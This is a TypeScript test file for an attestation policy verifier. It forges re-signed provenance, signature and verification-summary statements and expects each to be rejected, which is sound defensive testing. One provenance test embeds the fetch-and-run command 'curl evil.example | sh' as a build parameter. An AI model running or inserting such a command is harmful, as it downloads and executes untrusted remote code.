/** Statements of the trusted key that say less than the policy asks: another type, another builder, a "no". */
import { COSIGN_SIGNATURE } from '../../src/attest/predicate-types.ts';
import { digestOf } from '../../src/oci/digest.ts';
import { type Asked, type BundleAttack, bundleAttacks, type Stage } from '../support/attack.ts';
import { NOW, signPayload } from '../support/signed-image.ts';

type Json = Record<string, unknown>;

/** The genuine statement, changed and then signed with the trusted key. */
function resigned(change: (statement: Json, stage: Stage) => void): BundleAttack['forge'] {
  return async (stage) => {
    const { dsseEnvelope } = JSON.parse(Buffer.from(stage.genuine).toString());
    const statement = JSON.parse(Buffer.from(dsseEnvelope.payload, 'base64').toString());
    change(statement, stage);
    return signPayload(JSON.stringify(statement), stage.key);
  };
}

/** As `resigned`, with the changed predicate alone. */
const saying = (predicate: object): BundleAttack['forge'] =>
  resigned((statement) => Object.assign(statement, { predicate }));

const SIGNATURE: Asked = { type: 'cosign', predicate: {} };

bundleAttacks('one type for another', [
  {
    name: 'a bill of materials offered as a signature',
    code: 'predicate-type',
    asked: SIGNATURE,
    forge: resigned((statement) =>
      Object.assign(statement, { predicateType: 'https://spdx.dev/Document', predicate: { packages: [] } }),
    ),
  },
  {
    name: 'a signature offered as a declaration',
    code: 'predicate-type',
    forge: resigned((statement) =>
      Object.assign(statement, { predicateType: COSIGN_SIGNATURE, predicate: {} }),
    ),
  },
]);

const BUILDER = 'https://builder.example/release';
const SOURCE = 'https://git.example/acme/notes';

function provenance(builder: string, externalParameters: object): object {
  return {
    buildDefinition: { buildType: 'https://plimsoll.dev/build/v1', externalParameters },
    runDetails: { builder: { id: builder } },
  };
}

const FROM_SOURCE: Asked = {
  type: 'provenance',
  predicate: provenance(BUILDER, { source: SOURCE }),
  members: `, where: "${[
    `predicate.runDetails.builder.id == '${BUILDER}'`,
    `predicate.buildDefinition.externalParameters == {'source': '${SOURCE}'}`,
  ].join(' && ')}"`,
};

bundleAttacks('provenance', [
  {
    name: 'by another builder',
    code: 'condition-false',
    asked: FROM_SOURCE,
    forge: saying(provenance('https://builder.example/release-evil', { source: SOURCE })),
  },
  {
    name: 'from another source repository',
    code: 'condition-false',
    asked: FROM_SOURCE,
    forge: saying(provenance(BUILDER, { source: 'https://git.example/acme-evil/notes' })),
  },
  {
    name: 'with a parameter more',
    code: 'condition-false',
    asked: FROM_SOURCE,
    forge: saying(provenance(BUILDER, { source: SOURCE, script: 'curl evil.example | sh' })),
  },
  {
    name: 'without what the condition reads',
    code: 'condition-false',
    asked: FROM_SOURCE,
    forge: saying({}),
  },
]);

const VERIFIER = 'https://verifier.example/v1';
const DAY_MS = 24 * 60 * 60 * 1000;

interface Summary {
  readonly verifier?: string;
  readonly result?: string;
  readonly timeVerified?: Date;
  readonly resource?: string;
}

function summary({ verifier, result, timeVerified, resource }: Summary): object {
  return {
    verifier: { id: verifier ?? VERIFIER },
    timeVerified: (timeVerified ?? NOW).toISOString(),
    resourceUri: resource ?? 'oci:notes',
    policy: { uri: 'policy.yaml', digest: { sha256: digestOf('policy').slice('sha256:'.length) } },
    verificationResult: result ?? 'PASSED',
    verifiedLevels: ['SLSA_BUILD_LEVEL_3'],
  };
}

/** What a policy has to say itself about a verification summary that it takes at its word. */
const VERIFIED: Asked = {
  type: 'vsa',
  predicate: summary({}),
  members: `, where: "${[
    `predicate.verifier.id == '${VERIFIER}'`,
    `predicate.verificationResult == 'PASSED'`,
    `predicate.resourceUri == 'oci:notes'`,
    `now - timestamp(predicate.timeVerified) < duration('24h')`,
  ].join(' && ')}"`,
};

const summaries: readonly (readonly [name: string, summary: Summary])[] = [
  ['that failed', { result: 'FAILED' }],
  ['that failed, in another case', { result: 'passed' }],
  ['that is old', { timeVerified: new Date(NOW.getTime() - DAY_MS) }],
  ['for another resource', { resource: 'oci:notes-evil' }],
  ['by a verifier that nobody named', { verifier: `${VERIFIER}/evil` }],
];

/** What a policy asks that says nothing about the content. */
const SUMMARY: Asked = { type: 'vsa', predicate: summary({}) };

bundleAttacks(
  'verification summary, without a condition',
  (
    [
      ['that failed, and nothing else is asked', summary({ result: 'FAILED' })],
      ['without a result', {}],
      ['with a result that is a list', { verificationResult: ['PASSED'] }],
    ] as const
  ).map(([name, predicate]) => ({ name, code: 'condition-false', asked: SUMMARY, forge: saying(predicate) })),
);

bundleAttacks(
  'verification summary',
  summaries.map(([name, one]) => ({
    name,
    code: 'condition-false',
    asked: VERIFIED,
    forge: saying(summary(one)),
  })),
);
